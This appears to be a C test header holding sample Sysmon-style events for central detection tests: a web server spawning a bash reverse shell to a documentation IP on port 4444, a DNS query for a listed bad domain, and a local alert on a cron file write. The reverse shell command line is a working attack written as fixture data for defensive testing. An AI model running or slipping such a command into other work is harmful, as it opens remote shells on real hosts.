/*
 * detect_events.h - agent events that the central detection tests (test_detect_ingest.c,
 * test_mdet5_offload.c) ingest: a reverse shell command line (a rule), a DNS query for a
 * listed domain (an IOC) and an agent's local alert (EventID 140) carried on to the manager.
 */
#ifndef BN_TESTS_DETECT_EVENTS_H
#define BN_TESTS_DETECT_EVENTS_H

#define DETECT_ALERTING_EVENTS \
    "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":1,\"UtcTime\":\"2026-11-25 " \
    "10:00:00.123\",\"Computer\":\"web-01\",\"ProcessGuid\":\"{a-1}\",\"ProcessId\":4007," \
    "\"Image\":\"/usr/bin/bash\",\"CommandLine\":\"bash -c bash -i >& /dev/tcp/203.0.113.50/4444 " \
    "0>&1\",\"User\":\"www-data\",\"ParentImage\":\"/usr/sbin/apache2\"}", \
    "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":22,\"UtcTime\":\"2026-11-25 " \
    "10:00:01.000\",\"Computer\":\"web-01\",\"ProcessGuid\":\"{a-2}\",\"Image\":\"/usr/bin/curl\"," \
    "\"QueryName\":\"dl.bad-domain.test\",\"QueryResults\":\"198.51.100.7;\"}", \
    "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":140,\"UtcTime\":\"2026-11-25 " \
    "10:00:02.000\",\"Computer\":\"web-01\",\"Image\":\"/usr/bin/bash\",\"rule_id\":\"local-1\"," \
    "\"rule_title\":\"Local cron write\",\"rule_level\":\"high\",\"rule_tags\":" \
    "\"attack.persistence\",\"trigger_kind\":11,\"trigger\":{\"EventID\":11," \
    "\"TargetFilename\":\"/etc/cron.d/x\"}}",

#endif
